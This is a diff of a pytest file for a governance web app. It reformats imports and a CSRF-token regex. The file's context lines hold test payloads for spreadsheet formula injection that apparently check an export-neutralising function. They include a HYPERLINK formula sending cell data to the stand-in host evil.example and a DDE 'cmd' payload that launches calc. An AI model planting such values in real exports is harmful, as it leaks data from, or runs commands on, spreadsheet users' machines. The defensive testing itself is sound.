@@ -11,7 +11,14 @@ import frappe
 import pytest
 from xinqu_governance.governance.export_formulas import neutralise
 
-from tests.factories import PASSWORD, make_jurisdiction_tree, make_resident, make_user_at, purge_registry, purge_tree
+from tests.factories import (
+	PASSWORD,
+	make_jurisdiction_tree,
+	make_resident,
+	make_user_at,
+	purge_registry,
+	purge_tree,
+)
 
 HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
 
@@ -23,7 +30,9 @@ def exported(live_server, http_login):
 	user = make_user_at("Village Staff", tree.village_a1, prefix="xq-export")
 	frappe.db.commit()
 	session = http_login(user, PASSWORD)
-	token = re.search(r'name="csrf_token" value="([^"]*)"', session.get(f"{live_server}/petition", timeout=30).text)
+	token = re.search(
+		r'name="csrf_token" value="([^"]*)"', session.get(f"{live_server}/petition", timeout=30).text
+	)
 
 	def export(file_format_type: str) -> bytes:
 		response = session.post(
